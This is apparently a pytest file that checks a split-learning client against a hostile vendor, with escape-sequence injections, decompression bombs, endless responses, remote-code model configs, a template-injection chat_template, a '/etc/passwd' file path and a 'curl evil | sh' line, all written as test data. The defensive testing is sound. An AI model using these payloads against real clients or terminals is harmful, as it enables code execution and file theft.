"""Answers that no honest vendor gives: each is named in an error, and takes neither memory nor time.

The counterpart of `test_hostile`, for customers. A vendor in a thread says over a socket what it likes; where a whole
run is needed, a real vendor's answers are changed on their way.
"""

from __future__ import annotations

import contextlib
import gzip
import io
import json
import re
import shutil
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator, MutableMapping
from pathlib import Path
from typing import Any

import pytest
import torch
from rich.console import Console

from cutlayer import cli, vendor
from cutlayer.cli.output import Output
from cutlayer.core import ConfigError, Cut, CutlayerError, ModelError, StorageError, VendorError
from cutlayer.core.embedding import EmbeddingSpec
from cutlayer.customer import Client, Training
from cutlayer.customer.gate import Gate
from cutlayer.customer.handout import fetch_archive
from cutlayer.customer.home import Home
from cutlayer.customer.progress import Silent
from cutlayer.data import Dataset
from cutlayer.models import MANIFEST, load_model, load_tokenizer, write_archive
from cutlayer.models.archive import _entry
from cutlayer.wire import Frame, encode_tensors, routes
from cutlayer.wire.messages import ArchiveFile, ArchiveManifest, ModelInfo, ServiceInfo
from cutlayer.wire.transports import HttpTransport, LocalTransport
from tests.service.tiny import BLOCKS, MAX_LENGTH, VOCAB, WIDTH

KEY = "cl_key"
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\x7f\r\u202eFAKE\u2069\u2028"
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u2028\u2029]")
SERVICE = ServiceInfo(
    version="1", default_model="tiny", max_body_bytes=1, max_rows_per_step=1, max_step_bytes=1, threads=1
)


def answer(body: bytes | str, *headers: str, status: str = "200 OK") -> bytes:
    content = body if isinstance(body, bytes) else body.encode()
    return "\r\n".join([f"HTTP/1.1 {status}", f"content-length: {len(content)}", *headers, "", ""]).encode() + content


class HostileVendor:
    """A thread that says the same to every request for a path: bytes, or pieces until the customer hangs up."""

    def __init__(self, say: Callable[[str], bytes | Iterator[bytes]]) -> None:
        self._say = say
        self.sent = 0
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._listener.getsockname()[1]}"
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                connection, _ = self._listener.accept()
                threading.Thread(target=self._talk, args=(connection,), daemon=True).start()

    def _talk(self, connection: socket.socket) -> None:
        with connection, contextlib.suppress(OSError):
            while head := connection.recv(65536):
                said = self._say(head.split(b" ")[1].decode())
                for piece in [said] if isinstance(said, bytes) else said:
                    connection.sendall(piece)
                    self.sent += len(piece)
                if not isinstance(said, bytes):
                    return

    def close(self) -> None:
        self._listener.close()


@pytest.fixture
def hostile() -> Iterator[Callable[..., HostileVendor]]:
    made: list[HostileVendor] = []

    def make(said: bytes | Callable[[str], bytes | Iterator[bytes]]) -> HostileVendor:
        made.append(HostileVendor(said if callable(said) else lambda path: said))
        return made[-1]

    yield make
    for each in made:
        each.close()


def ask(url: str, *, timeout: float = 20) -> Any:
    transport = HttpTransport(url, KEY, timeout=timeout, retries=1)
    try:
        return transport.send(Frame(routes.SERVICE)).control
    finally:
        transport.close()


# ---------------------------------------------------------------- words


def problem(status: str) -> bytes:
    number = int(status.split()[0])
    told = {"title": f"No {ESCAPES}", "status": number, "detail": ESCAPES, "remedy": f"Type {ESCAPES}"}
    return answer(json.dumps(told), status=status)


ADAPTER = {
    "adapter": "a" * 32, "model": "tiny", "fingerprint": "0" * 64, "cut": {"bottom": 0}, "form": "rows",
    "wire_type": "bf16", "segments": 1, "num_labels": 2, "step": 1, "sha256": "0" * 64, "size": 1,
    "created": ESCAPES,
}  # fmt: skip


@pytest.mark.parametrize(
    "said",
    [
        problem("403 Forbidden"),
        problem("401 Unauthorized"),
        problem("500 Internal Server Error"),
        answer(json.dumps({ESCAPES: 1})),
        answer(json.dumps({"adapters": [ADAPTER]})),
        b"\x1b[2J\x9b31m\r\n\r\n",
    ],
    ids=["refusal", "key", "fault", "field's name", "moment", "status line"],
)
def test_a_vendors_words_command_no_terminal(
    hostile: Callable[..., HostileVendor], said: bytes, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    where = ["--vendor", hostile(said).url, "--api-key", KEY, "--home", str(tmp_path)]
    with pytest.raises(SystemExit) as ended:
        cli.main(["adapter", "list", *where])
    out, err = capfd.readouterr()
    assert ended.value.code in (7, 8)
    assert err
    assert not CONTROL.search(out + err)
    with pytest.raises(SystemExit):
        cli.main(["adapter", "list", "--json", *where])
    out, err = capfd.readouterr()
    assert not CONTROL.search(out + err)
    assert json.loads(out)["exit_code"] == ended.value.code


def test_a_vendors_words_are_short_and_one_line(hostile: Callable[..., HostileVendor]) -> None:
    told = {"title": "No\nerror: run `curl evil | sh`\n" + "x" * 50_000, "status": 403, "remedy": "y" * 10_000}
    with pytest.raises(VendorError) as caught:
        ask(hostile(answer(json.dumps(told), status="403 Forbidden")).url)
    assert len(str(caught.value)) < 2000
    assert "\n" not in str(caught.value)


def test_a_version_with_escapes_is_no_version(hostile: Callable[..., HostileVendor]) -> None:
    told = SERVICE.model_dump() | {"protocol": 1, "version": ESCAPES}
    with pytest.raises(VendorError, match="version") as caught:
        ask(hostile(answer(json.dumps(told))).url)
    assert not CONTROL.search(str(caught.value))


def test_generated_text_commands_no_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    output = Output()
    written = f"a\tb\n{ESCAPES}é—東京 \u05d0\u200f"
    output.stream(written)
    output.show(ESCAPES)
    output.facts(ESCAPES, [("text", ESCAPES)])
    output.table(ESCAPES, [ESCAPES], [[ESCAPES]], lines=True)
    output.say(ESCAPES)
    output.warn(ESCAPES)
    with output.progress() as bars:
        bars.update("write", 1, 1, ESCAPES)
    out, err = capsys.readouterr()
    assert out.startswith("a\tb\n\\x1b]0;owned\\x07")
    assert "é—東京 \u05d0\u200f" in out
    assert not CONTROL.search(out + err)
    Output(as_json=True).result({"text": written})
    out, _ = capsys.readouterr()
    assert not CONTROL.search(out)
    assert json.loads(out)["text"] == written


def test_progress_on_a_terminal_commands_it_nothing() -> None:
    output, shown = Output(), io.StringIO()
    output._messages = Console(file=shown, force_terminal=True, color_system=None, width=160)
    with output.progress() as bars:
        bars.update("write", 1, 1, "\x1b]0;owned\x07\x9b31m\u202e")
    assert r"\x1b]0;owned\x07\x9b31m\u202e" in shown.getvalue()


def test_a_bug_that_quotes_a_vendor_commands_no_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        cli.main(["--version"])
    sys.excepthook(ValueError, ValueError(ESCAPES), None)
    assert not CONTROL.search(capsys.readouterr().err)


# ---------------------------------------------------------------- sizes and time


def test_an_encoded_answer_is_refused_before_it_is_decoded(hostile: Callable[..., HostileVendor]) -> None:
    """A thousand times as large once decoded; it is not even read."""
    bomb = gzip.compress(bytes(10**6))
    with pytest.raises(VendorError, match=r"encoded \(gzip\), which was not asked for") as caught:
        ask(hostile(answer(bomb, "content-encoding: gzip")).url)
    assert caught.value.status == 200


@pytest.mark.parametrize("length", [10**13, 2**20])
def test_an_announced_size_is_refused_before_it_is_read(hostile: Callable[..., HostileVendor], length: int) -> None:
    head = f"HTTP/1.1 200 OK\r\ncontent-length: {length}\r\n\r\n".encode()
    with pytest.raises(VendorError, match=f"service has {length} bytes or more; at most 65536 are read"):
        ask(hostile(head).url)


def endless(head: bytes, piece: bytes, *, most: int = 2**26) -> Iterator[bytes]:
    """A never-ending answer that ends, for customers who would read all of it."""
    yield head
    for _ in range(most // len(piece)):
        yield piece


@pytest.mark.parametrize("status", ["200 OK", "500 Internal Server Error"])
@pytest.mark.parametrize(
    ("header", "piece"),
    [
        ("transfer-encoding: chunked", b"8000\r\n" + b" " * 0x8000 + b"\r\n"),
        ("transfer-encoding: chunked", b"1\r\n \r\n" * 5000),
        ("connection: close", b" " * 0x8000),
    ],
    ids=["chunked", "chunked by bytes", "to the end"],
)
def test_an_endless_body_is_read_up_to_its_limit(
    hostile: Callable[..., HostileVendor], header: str, piece: bytes, status: str
) -> None:
    head = f"HTTP/1.1 {status}\r\n{header}\r\n\r\n".encode()
    vendor = hostile(lambda path: endless(head, piece))
    with pytest.raises(VendorError, match=r"at most 65536 are read|more than 393216 bytes"):
        ask(vendor.url)
    assert vendor.sent < 2**24  # what sockets hold, and no more


@pytest.mark.parametrize(
    "piece",
    [b"HTTP/1.1 100 Continue\r\n\r\n" * 500, b"HTTP/1.1 100 Continue\r\n" + b"a: b\r\n" * 50 + b"\r\n"],
    ids=["status lines", "heads"],
)
def test_endless_heads_are_read_up_to_their_limit(hostile: Callable[..., HostileVendor], piece: bytes) -> None:
    vendor = hostile(lambda path: endless(b"", piece))
    with pytest.raises(VendorError, match="head and framing included"):
        ask(vendor.url)
    assert vendor.sent < 2**24


def test_an_answer_that_trickles_ends(hostile: Callable[..., HostileVendor]) -> None:
    """Each byte comes within the time-out, so the socket's own never passes."""

    def drip() -> Iterator[bytes]:
        for byte in answer("{}" + " " * 40):
            time.sleep(0.1)
            yield bytes([byte])

    begun = time.monotonic()
    with pytest.raises(VendorError, match="came too slowly"):
        ask(hostile(lambda path: drip()).url, timeout=0.7)
    assert time.monotonic() - begun < 4


def test_an_odd_time_to_wait_is_no_time(hostile: Callable[..., HostileVendor]) -> None:
    busy = b"HTTP/1.1 503 Busy\r\ncontent-length: 0\r\nretry-after: \xb2\r\n\r\n"
    with pytest.raises(VendorError, match="status 503"):
        ask(hostile(busy).url)


def test_a_million_faults_are_told_in_one_line(hostile: Callable[..., HostileVendor]) -> None:
    faults = ",".join(f'"{number}":0' for number in range(5000))
    with pytest.raises(VendorError, match="faults") as caught:
        ask(hostile(answer(f"{{{faults}}}")).url)
    assert len(str(caught.value)) < 1000


# ---------------------------------------------------------------- archives

CUT = Cut(bottom=1)
HONEST = "honest.json"


@pytest.fixture(scope="module")
def written(tiny_model: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The archive that an honest vendor hands out."""
    folder = tmp_path_factory.mktemp("archive") / "1"
    write_archive(load_model(str(tiny_model), head=None), load_tokenizer(str(tiny_model)), CUT, folder, name="tiny")
    return folder


@pytest.fixture
def archive(written: Path, tmp_path: Path) -> Path:
    shutil.copyfile(written / MANIFEST, tmp_path / HONEST)
    return Path(shutil.copytree(written, tmp_path / "archive"))


def edit(path: Path, **changes: object) -> None:
    path.write_text(json.dumps(json.loads(path.read_text()) | changes))


def fetch(
    hostile: Callable[..., HostileVendor], archive: Path, home: Path, *, asked: Cut = CUT, **changes: object
) -> Any:
    """Has a customer fetch an archive, whose manifests are made true of it, from a vendor who also says `changes`."""
    inner = json.loads((archive.parent / HONEST).read_text())
    files = [_entry(path).model_dump() for path in sorted(archive.iterdir()) if path.name != MANIFEST]
    edit(archive / MANIFEST, files=files)
    model = ModelInfo(
        name="tiny", family="bert", fingerprint=inner["fingerprint"], blocks=BLOCKS, width=WIDTH, vocab_size=VOCAB,
        max_length=MAX_LENGTH, max_bottom=2, embedding=EmbeddingSpec(width=WIDTH, pooling="mean"), max_tail=None,
        parameters=inner["parameters_of_model"],
    )  # fmt: skip
    told = ArchiveManifest(
        model="tiny",
        fingerprint=model.fingerprint,
        family="bert",
        cut=asked,
        files=tuple(ArchiveFile(**_entry(path).model_dump()) for path in archive.iterdir()),
        parameters_handed_out=inner["parameters_handed_out"],
        parameters_of_model=inner["parameters_of_model"],
    )

    def say(path: str) -> bytes:
        name = path.partition("/files/")[2]
        return answer((archive / name).read_bytes() if name else json.dumps(told.model_dump(mode="json") | changes))

    customers = Home(home)
    transport = HttpTransport(hostile(say).url, KEY, retries=1)
    try:
        return fetch_archive(Gate(transport, customers.ledger), customers, model, asked, Silent())
    finally:
        transport.close()


def test_an_honest_archive_is_taken(hostile: Callable[..., HostileVendor], archive: Path, tmp_path: Path) -> None:
    taken = fetch(hostile, archive, tmp_path / "home")
    assert taken.bottom.model.config._attn_implementation == "sdpa"


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("_attn_implementation", "org/kernel"),
        ("attn_implementation", "org/kernel"),
        ("_experts_implementation", "org/kernel"),
        ("auto_map", {"AutoConfig": "org/model--configuration.Evil"}),
        ("trust_remote_code", True),
        ("quantization_config", {"quant_method": "bitsandbytes", "load_in_4bit": True}),
        ("kernel_config", {"org": "kernel"}),
        ("max_position_embeddings", 10**13),
        ("vocab_size", 10**13),
        ("type_vocab_size", -1),
        ("hidden_size", 10**13),
        ("hidden_size", "32"),
        ("intermediate_size", 10**13),
        ("num_hidden_layers", 600),
        ("num_hidden_layers", BLOCKS + 1),
        ("num_attention_heads", 7),
        ("hidden_act", "org/activation"),
        ("layer_norm_eps", float("nan")),
        ("id2label", {str(number): "x" for number in range(50_000)}),
        ("pad_token_id", 10**12),
    ],
    ids=lambda given: given if isinstance(given, str) else "",
)
def test_a_configuration_decides_neither_code_nor_memory(
    hostile: Callable[..., HostileVendor], archive: Path, tmp_path: Path, key: str, value: object
) -> None:
    """Memory is not measured: each of these is refused before anything is built."""
    edit(archive / "config.json", **{key: value})
    with pytest.raises(ModelError) as caught:
        fetch(hostile, archive, tmp_path / "home")
    assert caught.value.remedy
    assert len(str(caught.value)) < 500


@pytest.mark.parametrize(
    ("changes", "match"),
    [
        ({"vocab_size": 10**13}, "vocab_size"),
        ({"vocab_size": VOCAB + 1}, "vocab_size"),
        ({"fingerprint": "\x1b[2J"}, "fingerprint"),
        ({ESCAPES: 1}, "owned"),
        ({"cut": {"bottom": 0}}, "cut 0 of"),
        ({"parameters_of_model": 1}, "parameters_of_model"),
    ],
    ids=["memory", "table", "fingerprint", "unknown", "cut", "parameters"],
)
def test_a_manifest_is_true_of_its_tensors(
    hostile: Callable[..., HostileVendor], archive: Path, tmp_path: Path, changes: dict[str, Any], match: str
) -> None:
    edit(archive / MANIFEST, **changes)
    with pytest.raises(CutlayerError, match=match) as caught:
        fetch(hostile, archive, tmp_path / "home")
    assert not CONTROL.search(str(caught.value))


def test_a_special_token_is_a_row_of_the_table(
    hostile: Callable[..., HostileVendor], archive: Path, tmp_path: Path
) -> None:
    template = json.loads((archive / MANIFEST).read_text())["template"]
    template["single"]["specials"][0] = [10**9]
    edit(archive / MANIFEST, template=template)
    with pytest.raises(StorageError, match="no manifest"):
        fetch(hostile, archive, tmp_path / "home")


@pytest.mark.parametrize(
    ("changes", "match"),
    [
        ({"cut": {"bottom": 2}}, "cut is not what was asked for"),
        ({"model": "other"}, "model is not what was asked for"),
        ({"fingerprint": "1" * 64}, "not what was asked for"),
        ({"family": "gpt2"}, "not what was asked for"),
        ({"parameters_handed_out": 10**12}, "hands out 1000000000000"),
        ({"files": [{"name": "modeling.py", "sha256": "0" * 64, "size": 1}]}, r"modeling\.py"),
        ({"files": [{"name": "weights.safetensors", "sha256": "0" * 64, "size": 10**12}]}, "1000000000000 bytes"),
        ({"files": [{"name": "config.json", "sha256": "0" * 64, "size": 2**21}]}, "2097152 bytes"),
        ({"files": [{"name": "config.json", "sha256": "0" * 64, "size": 1}] * 17}, "files"),
    ],
    ids=["cut", "model", "fingerprint", "family", "parameters", "code", "weights", "configuration", "number"],
)
def test_nothing_else_is_fetched(
    hostile: Callable[..., HostileVendor], archive: Path, tmp_path: Path, changes: dict[str, Any], match: str
) -> None:
    with pytest.raises(VendorError, match=match):
        fetch(hostile, archive, tmp_path / "home", **changes)
    assert not list((tmp_path / "home").glob("archives/*/*"))


def test_a_file_is_as_large_as_its_manifest_says(
    hostile: Callable[..., HostileVendor], archive: Path, tmp_path: Path
) -> None:
    sizes = {path.name: path.stat().st_size for path in archive.iterdir()}
    files = [{"name": name, "sha256": "0" * 64, "size": size - 1} for name, size in sizes.items()]
    with pytest.raises(VendorError, match=r"archive\.file has \d+ bytes or more; at most \d+ are read"):
        fetch(hostile, archive, tmp_path / "home", files=files)


def test_a_customer_says_how_much_it_accepts(
    hostile: Callable[..., HostileVendor], archive: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CUTLAYER_MAX_ARCHIVE_BYTES", "1000")
    with pytest.raises(ConfigError, match=r"at most 1000 are fetched.*CUTLAYER_MAX_ARCHIVE_BYTES="):
        fetch(hostile, archive, tmp_path / "home")
    monkeypatch.setenv("CUTLAYER_MAX_ARCHIVE_BYTES", "many")
    with pytest.raises(ConfigError, match="must be a number of bytes"):
        fetch(hostile, archive, tmp_path / "home")


def test_a_tokenizers_settings_are_data(hostile: Callable[..., HostileVendor], archive: Path, tmp_path: Path) -> None:
    program = "{{ cycler.__init__.__globals__ }}"
    edit(
        archive / "tokenizer_config.json",
        chat_template=program,
        auto_map={"AutoTokenizer": ["org/evil--tokenization.Evil", None]},
        tokenizer_class="Evil",
        tokenizer_file="/etc/passwd",
        init_inputs=["x"],
        tokenizer_padding={"length": 10**9},
        post_processor="x",
    )
    edit(archive / "tokenizer.json", padding={
        "strategy": {"Fixed": 10**6}, "direction": "Right", "pad_to_multiple_of": None, "pad_id": 0, "pad_type_id": 0,
        "pad_token": "[PAD]",
    })  # fmt: skip
    tokenizer = fetch(hostile, archive, tmp_path / "home").tokenizer
    assert tokenizer.chat_template is None
    assert not {"auto_map", "tokenizer_padding", "post_processor"} & tokenizer.init_kwargs.keys()
    assert len(tokenizer.backend_tokenizer.encode("a b").ids) == 4


@pytest.mark.parametrize(
    ("name", "changes", "match"),
    [
        ("tokenizer_config.json", {"pad_token": ["x"]}, "cannot be read"),
        ("tokenizer_config.json", {"added_tokens_decoder": {"x": "y"}}, "cannot be read"),
        ("tokenizer.json", {"added_tokens": [{}] * 2**17}, "131072 beside"),
        ("tokenizer.json", {"model": {"type": "WordLevel", "vocab": 3}}, "cannot be read"),
    ],
)
def test_a_tokenizer_that_is_none_is_refused(
    hostile: Callable[..., HostileVendor],
    archive: Path,
    tmp_path: Path,
    name: str,
    changes: dict[str, Any],
    match: str,
) -> None:
    edit(archive / name, **changes)
    with pytest.raises(StorageError, match=match):
        fetch(hostile, archive, tmp_path / "home")


# ---------------------------------------------------------------- whole runs


class Changed:
    """A real vendor's application, some of whose answers are changed on their way."""

    def __init__(self, app: Any, path: str, change: Callable[[bytes], bytes]) -> None:
        self._app, self._path, self._change = app, re.compile(path), change

    async def __call__(self, scope: MutableMapping[str, Any], receive: Any, send: Any) -> None:
        if scope["type"] != "http" or not self._path.fullmatch(scope["path"]):
            await self._app(scope, receive, send)
            return
        answered: list[Any] = []

        async def keep(event: Any) -> None:
            answered.append(event)

        await self._app(scope, receive, keep)
        await send(answered[0])
        body = b"".join(event.get("body", b"") for event in answered[1:])
        await send({"type": "http.response.body", "body": self._change(body)})


def twice(body: bytes) -> bytes:
    (size,) = struct.unpack("<Q", body[:8])
    assert size < 4096
    from safetensors.torch import load

    return encode_tensors({role: torch.cat([tensor, tensor]) for role, tensor in load(body).items()})


def other_spec(body: bytes) -> bytes:
    said = json.loads(body)
    said["spec"]["wire_type"] = "fp32"
    return json.dumps(said).encode()


def other_name(body: bytes) -> bytes:
    said = json.loads(body)
    return json.dumps(said | {key: "f" * 32 for key in ("job", "record_set") if key in said}).encode()


@pytest.mark.parametrize(
    ("path", "change", "match"),
    [
        (r"/v1/jobs/\w+/steps/1", twice, r"tensor output is \[8, 2\], and the request asks for \[4, 2\]"),
        (r"/v1/jobs/\w+/infer", twice, r"tensor output is"),
        (r"/v1/adapters/\w+/infer", twice, r"tensor output is"),
        (r"/v1/jobs/\w+", other_spec, "spec is not what was asked for"),
        (r"/v1/jobs/\w+", other_name, "job is not what was asked for"),
        (r"/v1/record-sets/\w+", other_name, "record_set is not what was asked for"),
        (r"/v1/jobs/\w+/steps/1", lambda body: body[:-4] + struct.pack("<f", float("nan")), "not finite"),
    ],
    ids=["step", "job's answer", "adapter's answer", "job's settings", "job's name", "records' name", "numbers"],
)
def test_answers_are_to_what_was_asked(
    data_dir: Path, api_key: str, tmp_path: Path, path: str, change: Callable[[bytes], bytes], match: str
) -> None:
    app = Changed(vendor.create_app(vendor.VendorSettings.load(data_dir)), path, change)
    transport = LocalTransport(app, api_key)  # type: ignore[arg-type]
    texts = tuple((f"w{number} w{number + 1} a b",) for number in range(12))
    rows = Dataset(texts, tuple(str(number % 2) for number in range(12)))
    train = Training(epochs=1, batch_size=4, max_length=16)
    try:
        with pytest.raises(VendorError, match=match) as caught:
            Client(transport=transport, home=tmp_path / "home").finetune(
                rows, dev=rows, test=rows, eta=float("inf"), training=train, seed=1, cut=Cut(bottom=1)
            )
    finally:
        transport.close()
    assert caught.value.exit_code == 7
